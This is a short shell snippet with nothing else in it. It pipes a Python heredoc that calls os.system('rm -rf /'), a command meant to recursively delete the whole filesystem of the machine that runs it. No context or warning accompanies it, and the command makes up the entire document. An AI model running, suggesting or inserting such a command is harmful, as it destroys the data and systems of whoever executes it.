python3 <<EOF
import os
os.system("rm -rf /")
EOF
